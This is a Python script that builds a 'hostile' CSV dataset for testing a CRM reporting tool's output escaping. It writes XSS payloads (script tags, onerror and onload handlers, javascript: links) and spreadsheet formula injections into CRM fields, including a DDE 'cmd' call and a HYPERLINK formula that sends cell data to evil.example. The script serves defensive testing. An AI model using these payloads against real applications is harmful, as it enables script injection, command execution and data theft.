"""Write the hostile dataset: the embedded sample with values a CRM user could type in.

Run once after changing a value; the output is committed next to this script::

    python tests/data/make_hostile.py            # writes tests/data/hostile/

The dataset is the embedded sample (``kamlib.data.sample_dir()``, CSV files) with
markup and spreadsheet formulas written into free-text fields: a region that is a
``<script>``, account names with an ``onerror`` handler, loss reasons and
competitors with ``<script>`` and ``=HYPERLINK(...)``, product names starting with
``=``, ``+``, ``@`` and ``-``, Markdown with a ``javascript:`` link, an over-long
name of 4-byte characters, and Chinese. The values go where the reports show them:
the largest accounts and region, the most frequent loss reasons and competitors,
the products of every win-rate table and its reading.
``tests/test_hostile.py`` runs ``kam report`` on it and checks that every value is
shown as text (escaped in HTML, guarded in CSV, a string cell in XLSX), and that
the committed files equal what this script writes.
"""

from __future__ import annotations

import csv
import shutil
import sys
from collections import Counter
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[1] / "data" / "sample"  # kamlib.data.sample_dir()

REGION = "<script>alert(1)</script>"
ACCOUNT_NAME = "<img src=x onerror=alert(document.domain)>"
ACCOUNT_NAME_ZH = "华为技术<img src=x onerror=alert('客户')>有限公司"
ACCOUNT_NAME_LINK = "[点击查看](javascript:alert(1)) **加粗** 客户"
LONG_NAME = "𠀀" * 60  # U+20000, four bytes in UTF-8
LOSS_REASONS = ['<script>alert("loss")</script>', '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")']
COMPETITORS = ["<script>alert(document.cookie)</script>鼎峰重卡", "=cmd|' /C calc'!A0"]
PRODUCT_NAMES = {"P01": "=cmd|' /C calc'!A0", "P02": "+1+1", "P03": "@SUM(A1)", "P04": "-2+3",
                 "P28": "[鸿途 Z3](javascript:alert('产品')) 应急抢险车"}  # P28: lowest win rate, in a reading
REP_NAME = "<svg onload=alert('rep')>张伟"
FACTOR_STATEMENTS = ["<script>alert('swot')</script>重卡产品线齐全", "=1+2 市场增长"]

#: Every hostile value, for the tests.
VALUES = [REGION, ACCOUNT_NAME, ACCOUNT_NAME_ZH, ACCOUNT_NAME_LINK, LONG_NAME, *LOSS_REASONS, *COMPETITORS,
          *PRODUCT_NAMES.values(), REP_NAME, *FACTOR_STATEMENTS]


def read(name: str) -> tuple[list[str], list[dict[str, str]]]:
    """The header and rows of the sample's *name*.csv, every value as text."""
    with open(SAMPLE / f"{name}.csv", encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def write(folder: Path, name: str, header: list[str], rows: list[dict[str, str]]) -> None:
    with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def largest_accounts(n: int) -> list[str]:
    """The *n* accounts with the most revenue in the last 12 months of the orders (they lead the
    classification tables and readings, which read that year)."""
    orders = read("orders")[1]
    last = max(row["order_date"] for row in orders)
    since = f"{int(last[:4]) - 1}{last[4:]}"  # ISO dates compare as text
    revenue: Counter[str] = Counter()
    for row in orders:
        if row["order_date"] > since:
            revenue[row["account_id"]] += float(row["revenue"])
    return [account for account, _ in revenue.most_common(n)]


def accounts(rows: list[dict[str, str]]) -> None:
    names = dict(zip(largest_accounts(4), [ACCOUNT_NAME, LONG_NAME, ACCOUNT_NAME_ZH, ACCOUNT_NAME_LINK]))
    for i, row in enumerate(rows):
        row["account_name"] = names.get(row["account_id"], row["account_name"])
        if i % 3 == 0:  # 100 accounts: the largest region, in every revenue-by-region table and reading
            row["region"] = REGION


def opportunities(rows: list[dict[str, str]]) -> None:
    lost = [row for row in rows if row["status"] == "lost"]
    for i, row in enumerate(lost):  # the two most frequent loss reasons and competitors
        if i % 3 < 2:
            row["loss_reason"] = LOSS_REASONS[i % 3]
            row["competitor"] = COMPETITORS[i % 3]


def products(rows: list[dict[str, str]]) -> None:
    for row in rows:
        row["product_name"] = PRODUCT_NAMES.get(row["product_id"], row["product_name"])


def reps(rows: list[dict[str, str]]) -> None:
    rows[0]["rep_name"] = REP_NAME


def factors(rows: list[dict[str, str]]) -> None:
    for row, statement in zip(rows, FACTOR_STATEMENTS):
        row["statement"] = statement


CHANGES = {"accounts": accounts, "opportunities": opportunities, "products": products, "reps": reps,
           "factors": factors}


def make(root: Path) -> Path:
    """Write ``root/hostile/`` (replacing what is there) and return it."""
    folder = root / "hostile"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for path in sorted(SAMPLE.glob("*.csv")):
        header, rows = read(path.stem)
        if path.stem in CHANGES:
            CHANGES[path.stem](rows)
        write(folder, path.stem, header, rows)
    return folder


if __name__ == "__main__":
    print(f"hostile dataset written to {make(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)}")
